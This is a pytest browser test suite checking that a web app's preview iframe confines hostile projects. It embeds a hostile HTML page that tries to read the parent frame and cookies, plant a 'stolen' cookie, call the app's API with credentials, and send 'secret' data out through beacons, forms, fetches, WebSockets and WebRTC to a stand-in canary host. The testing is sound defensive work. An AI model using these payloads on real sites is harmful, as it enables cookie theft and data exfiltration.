"""Previews in a real browser: projects run there, and hostile ones get nowhere."""

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import OpenPage, violations
from playwright.sync_api import FrameLocator, Page, expect

import fondation_shared
from fondation_shared.testing import free_port
from fondation_web.played_build import PlayedBuild
from fondation_web.testing import PlayedWorker, Web

pytestmark = pytest.mark.browser

KNOWS_ALLOWLISTS = 150
"""The Chromium from which this is taken to be so; this was seen with 156."""
STARTER = Path(fondation_shared.__file__).parents[4] / "apps/cli/src/fondation_cli/project/stacks/static/starter"


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    served = Web(tmp_path_factory.mktemp("previews"), PREVIEW_PORT=str(free_port()))
    served.start()
    yield served
    served.stop()


@pytest.fixture
def worker(web: Web) -> Iterator[PlayedWorker]:
    played = PlayedWorker(web.url)
    yield played
    played.leave()


class Canary:
    """Listens on loopback by TCP and UDP, and remembers whether anything was heard."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.heard: list[str] = []
        for listen in (self._tcp, self._udp):
            threading.Thread(target=listen, daemon=True).start()

    def _tcp(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.heard.append(connection.recv(200).decode(errors="replace"))
                except TimeoutError:
                    self.heard.append("opened")

    def _udp(self) -> None:
        while True:
            try:
                content, _ = self.udp.recvfrom(200)
            except OSError:
                return
            self.heard.append(f"udp {content!r}")

    def close(self) -> None:
        for each in (self.tcp, self.udp):
            each.shutdown(socket.SHUT_RDWR) if each is self.tcp else None
            each.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    listening = Canary()
    yield listening
    listening.close()


def built(web: Web, worker: PlayedWorker, build: PlayedBuild) -> str:
    project = web.generate(build.prompt)
    worker.build(build)
    return f"{web.url}/projects/{project}"


def starter() -> PlayedBuild:
    files = {path.name: path.read_text("utf-8") for path in STARTER.iterdir() if path.is_file()}
    return PlayedBuild(source=files, dist=files)


def the_frame(page: Page) -> FrameLocator:
    return page.frame_locator("iframe.preview")


def test_the_todo_app_runs_in_its_frame(web: Web, worker: PlayedWorker, open_page: OpenPage) -> None:
    page = open_page()
    page.goto(built(web, worker, starter()))
    page.get_by_role("link", name="Preview").click()
    frame = the_frame(page)
    frame.get_by_label("What needs doing?").fill("Buy milk")
    frame.get_by_role("button", name="Add").click()
    expect(frame.get_by_text("1 task left")).to_be_visible()
    expect(page.get_by_text("python3 -m http.server")).to_be_visible()
    page.keyboard.press("Tab")
    assert violations(page) == []


def test_an_application_of_modules_runs_as_well(web: Web, worker: PlayedWorker, open_page: OpenPage) -> None:
    dist = {
        "index.html": '<!doctype html><title>M</title><link rel="stylesheet" crossorigin href="./assets/a.css">'
        '<script type="module" crossorigin src="./assets/a.js"></script><p id="said"></p>',
        "assets/a.css": "p { color: rgb(1, 2, 3); }",
        "assets/a.js": 'import { word } from "./b.js"; const data = await (await fetch("./data.json")).json();'
        'document.querySelector("#said").textContent = word + data.n;',
        "assets/b.js": 'export const word = "number ";',
        "data.json": '{"n": 5}',
    }
    page = open_page()
    page.goto(f"{built(web, worker, PlayedBuild(stack='vite-react', dist=dist))}/preview")
    expect(the_frame(page).locator("#said")).to_have_text("number 5")
    expect(the_frame(page).locator("#said")).to_have_css("color", "rgb(1, 2, 3)")


HOSTILE = """<!doctype html><meta charset="utf-8"><title>Hostile</title>
<link rel="stylesheet" href="CANARY/style.css"><link rel="preload" as="script" href="CANARY/preload.js">
<link rel="prefetch" href="CANARY/prefetch"><link rel="preconnect" href="CANARY">
<script src="CANARY/script.js"></script><img src="CANARY/image.png"><img src="APP/static/x/icon.svg">
<object data="CANARY/object"></object><embed src="CANARY/embed"><video src="CANARY/video.mp4"></video>
<iframe id="inner" src="CANARY/frame"></iframe><iframe src="APP/projects"></iframe>
<form id="post" method="post" action="APP/projects"><input name="prompt" value="a hostile project"></form>
<form id="out" action="CANARY/form"><input name="q" value="secret"></form>
<a id="top" target="_top" href="CANARY/top">top</a><a id="blank" target="_blank" href="CANARY/blank">blank</a>
<p id="done"></p>
<script>
const found = {};
async function tried(name, act) {
  const late = new Promise((_, no) => setTimeout(no, 3000));
  try { found[name] = "got " + await Promise.race([act(), late]); } catch (error) { found[name] = "no"; }
}
(async () => {
  await tried("parent", () => parent.document.title);
  await tried("top", () => top.location.href);
  await tried("cookie", () => document.cookie + ".");
  await tried("write cookie", () => { document.cookie = "fondation_key=stolen"; return "set"; });
  await tried("storage", () => localStorage.length);
  await tried("session", () => sessionStorage.length);
  await tried("database", () => new Promise((yes, no) => {
    const asked = indexedDB.open("x"); asked.onsuccess = () => yes("open"); asked.onerror = no; }));
  await tried("worker", () => navigator.serviceWorker.register("./worker.js"));
  for (const path of ["/v1/projects", "/v1/jobs", "/health", "/projects"]) {
    await tried("api " + path, async () => (await fetch("APP" + path, {credentials: "include"})).status);
    await tried("opaque api " + path, async () => (await fetch("APP" + path, {mode: "no-cors"})).type);
  }
  await tried("api post", async () => (await fetch("APP/v1/generate", {method: "POST", body: "{}"})).status);
  await tried("other preview", async () => (await fetch("OTHER")).status);
  await tried("canary", async () => (await fetch("CANARY/fetch", {mode: "no-cors"})).type);
  navigator.sendBeacon("CANARY/beacon", "x");
  await tried("socket", () => new Promise((yes, no) => {
    const open = new WebSocket("CANARY".replace("http", "ws")); open.onopen = () => yes("open"); open.onerror = no; }));
  await tried("events", () => new Promise((yes, no) => {
    const open = new EventSource("CANARY/events"); open.onopen = () => yes("open"); open.onerror = no; }));
  await tried("import", () => import("CANARY/module.js"));
  await tried("blob worker", () => new Promise((yes, no) => {
    const made = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    made.onmessage = () => yes("ran"); made.onerror = no; }));
  await tried("window", () => window.open("CANARY/window").closed);
  await tried("frame", () => document.querySelector("#inner").contentDocument.title + ".");
  top.postMessage("hello", "*");
  for (const id of ["top", "blank"]) document.querySelector("#" + id).click();
  await tried("navigate top", () => { top.location = "CANARY/location"; return "set"; });
  document.querySelector("#done").textContent = JSON.stringify(found);
})();
function leave() {
  for (const id of ["post", "out"]) document.querySelector("#" + id).submit();
  location.href = "CANARY/left?secret";
}
</script>"""


def test_a_hostile_page_reaches_neither_us_nor_the_world(
    web: Web, worker: PlayedWorker, open_page: OpenPage, canary: Canary
) -> None:
    other = built(web, worker, starter())
    page = open_page()
    page.goto(f"{other}/preview")
    neighbour = page.locator("iframe.preview").get_attribute("src") or ""
    said = HOSTILE.replace("CANARY", f"http://127.0.0.1:{canary.port}").replace("APP", web.url)
    files = {"index.html": said.replace("OTHER", f"{neighbour}todos.js"), "worker.js": ""}
    before = len(web.get("/v1/projects").json()["items"])
    address = f"{built(web, worker, PlayedBuild(prompt='hostile', dist=files))}/preview"
    hostile = open_page(forgiven=":")
    hostile.context.add_cookies([{"name": "fondation_theme", "value": "dark", "url": web.url}])
    hostile.goto(address)
    done = the_frame(hostile).locator("#done")
    expect(done).to_contain_text("navigate top")
    found = done.evaluate("node => JSON.parse(node.textContent)")
    assert len(found) > 20
    assert {name: said for name, said in found.items() if said != "no"} == {}
    with hostile.expect_console_message(lambda message: "frame-src" in message.text):
        done.evaluate("leave()")
    assert hostile.url == address
    assert len(hostile.context.pages) == 1
    assert canary.heard == []
    assert len(web.get("/v1/projects").json()["items"]) == before + 1
    assert {cookie["name"] for cookie in hostile.context.cookies()} == {"fondation_theme"}


WEB_RTC = """<!doctype html><title>Calls</title><p id="done"></p><script>
(async () => {
  const servers = ["stun:127.0.0.1:PORT", "turn:127.0.0.1:PORT?transport=tcp"];
  const call = new RTCPeerConnection({iceServers: servers.map(urls => ({urls, username: "secret", credential: "x"}))});
  call.createDataChannel("x");
  const over = new Promise(yes => {
    call.onicegatheringstatechange = () => call.iceGatheringState === "complete" && yes();
  });
  await call.setLocalDescription(await call.createOffer());
  await Promise.race([over, new Promise(yes => setTimeout(yes, 3000))]);
  document.querySelector("#done").textContent = "over";
})();
</script>"""


def test_no_call_of_webrtc_gets_out(web: Web, worker: PlayedWorker, open_page: OpenPage, canary: Canary) -> None:
    page = open_page(forgiven=":")
    browser = page.context.browser
    assert browser is not None
    if int(browser.version.partition(".")[0]) < KNOWS_ALLOWLISTS:
        pytest.skip(f"Chromium {browser.version} does not know the header that holds WebRTC back.")
    body = WEB_RTC.replace("PORT", str(canary.port))
    page.goto(f"{built(web, worker, PlayedBuild(dist={'index.html': body}))}/preview")
    expect(the_frame(page).locator("#done")).to_have_text("over")
    assert canary.heard == []


def test_a_preview_opened_by_itself_is_refused(web: Web, worker: PlayedWorker, open_page: OpenPage) -> None:
    page = open_page(forgiven="403")
    page.goto(f"{built(web, worker, starter())}/preview")
    answer = page.goto(page.locator("iframe.preview").get_attribute("src") or "")
    assert answer is not None
    assert answer.status == 403
    assert "What needs doing" not in page.content()
